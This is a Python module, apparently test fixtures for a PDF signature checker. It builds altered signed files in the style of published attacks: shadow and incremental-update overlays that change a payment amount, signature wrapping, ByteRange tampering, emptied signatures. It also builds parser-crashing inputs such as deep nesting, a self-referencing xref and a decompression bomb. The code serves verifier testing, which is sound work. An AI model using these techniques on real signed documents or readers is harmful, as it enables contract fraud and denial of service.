"""Signed files that somebody altered, as published attacks on PDF signatures do; each a small function."""

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]


def _updated(content: bytes, change: Change) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(content))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def flip_a_byte(content: bytes) -> bytes:
    """Other words in what was signed, in place."""
    assert b"1.000.000" in content
    return content.replace(b"1.000.000", b"9.000.000", 1)


def cover_the_page(content: bytes) -> bytes:
    """An update that writes over the page (incremental saving)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.find_page_for_modification(0)[0].get_object()
        more = generic.StreamObject(stream_data=b"BT /F1 20 Tf 60 600 Td (Chi tra 9.000.000 dong) Tj ET")
        page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), writer.add_object(more)])
        writer.mark_update(page.container_ref)

    return _updated(content, change)


def swap_the_contents(content: bytes) -> bytes:
    """A shadow: an update replaces the object that the page shows, and the page itself stays."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        shown = writer.root["/Pages"]["/Kids"][0].raw_get("/Contents")
        stream = writer.get_object(shown.reference)
        stream._data = b"BT /F1 20 Tf 60 700 Td (Chi tra 9.000.000 dong) Tj ET"
        stream._encoded_data = None
        writer.mark_update(shown.reference)

    return _updated(content, change)


def swap_the_font(content: bytes) -> bytes:
    """A shadow: the same letters look like others, because the font is another."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.find_page_for_modification(0)[0].get_object()
        page["/Resources"]["/Font"]["/F1"] = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/ZapfDingbats"),
            }
        )
        writer.mark_update(page.container_ref)

    return _updated(content, change)


def another_tree_of_pages(content: bytes) -> bytes:
    """A shadow: the catalogue points to other pages, the signed ones are no longer shown."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        old = writer.root["/Pages"]["/Kids"][0]
        page = generic.DictionaryObject({key: old.raw_get(key) for key in old})
        shown = writer.add_object(generic.StreamObject(stream_data=b"BT /F1 20 Tf 60 700 Td (Khac) Tj ET"))
        page[pdf_name("/Contents")] = shown
        kid = writer.add_object(page)
        pages = writer.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Pages"),
                    pdf_name("/Count"): generic.NumberObject(1),
                    pdf_name("/Kids"): generic.ArrayObject([kid]),
                }
            )
        )
        page[pdf_name("/Parent")] = pages
        writer.root["/Pages"] = pages
        writer.update_root()

    return _updated(content, change)


def wrap(content: bytes) -> bytes:
    """Signature wrapping: the signed end moves behind a copy of itself that nobody signed and that readers follow."""
    found = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", content)
    assert found is not None
    first, second, length = int(found[2]), int(found[3]), int(found[4])
    end = content[second:].replace(b"/Prev", b"/Evil true/Prev")
    moved = content[:second] + end + content[second:]
    said = f"/ByteRange [0 {first} {second + len(end)} {length}]".encode()
    assert len(said) <= len(found[0])
    return moved.replace(found[0], said.ljust(len(found[0])), 1)


def leave_out_the_end(content: bytes) -> bytes:
    """The ranges stop before the end of what was there when it was signed."""
    found = re.search(rb"/ByteRange\s*\[\s*\d+\s+\d+\s+\d+\s+(\d+)\s*\]", content)
    assert found is not None
    shorter = str(int(found[1]) - 20).encode().ljust(len(found[1]))
    return content[: found.start(1)] + shorter + content[found.end(1) :]


def empty_the_signature(content: bytes) -> bytes:
    """Universal forgery: the signature's field is there, its value says nothing."""
    return re.sub(
        rb"/Contents <[0-9a-fA-F]{100,}", lambda at: b"/Contents <" + b"0" * (len(at[0]) - 11), content, count=1
    )


def without_ranges(content: bytes) -> bytes:
    """Universal forgery: nothing says what was signed."""
    return re.sub(rb"/ByteRange(?=\s*\[)", b"/ByteRangf", content, count=1)


def take_the_form_away(content: bytes) -> bytes:
    """An update hides every signature."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return _updated(content, change)


ATTACKS = (
    flip_a_byte,
    cover_the_page,
    swap_the_contents,
    swap_the_font,
    another_tree_of_pages,
    wrap,
    leave_out_the_end,
    empty_the_signature,
    without_ranges,
    take_the_form_away,
)


def deep_nesting() -> bytes:
    """Arrays within arrays until a reader's stack is full."""
    return _file(b"<</Type/Catalog/Pages 2 0 R/AcroForm " + b"[" * 200_000 + b">>")


def circle_of_tables() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    table = f"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<</Size 2/Root 1 0 R/Prev {len(body)}>>\n"
    return body + table.encode() + f"startxref\n{len(body)}\n%%EOF\n".encode()


def bomb() -> bytes:
    """An object stream that unpacks to gigabytes."""
    import zlib

    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 10_000_000) for _times in range(200)) + packer.flush()
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    at = len(body)
    head = f"3 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
    return body + head.encode() + packed + f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n".encode()


def crowd(content: bytes, many: int) -> bytes:
    """As many signature fields, each pointing to the same signature."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        value = form["/Fields"][0].raw_get("/V")
        for number in range(many):
            field = generic.DictionaryObject(
                {
                    pdf_name("/FT"): pdf_name("/Sig"),
                    pdf_name("/T"): generic.TextStringObject(f"x{number}"),
                    pdf_name("/V"): value,
                }
            )
            form["/Fields"].append(writer.add_object(field))
        writer.update_root()
        if form.container_ref is not None:
            writer.mark_update(form.container_ref)

    return _updated(content, change)


def _file(catalogue: bytes) -> bytes:
    body = b"%PDF-1.7\n1 0 obj\n" + catalogue + b"\nendobj\n"
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<</Size 2/Root 1 0 R>>\n"
    return body + table + f"startxref\n{len(body)}\n%%EOF\n".encode()
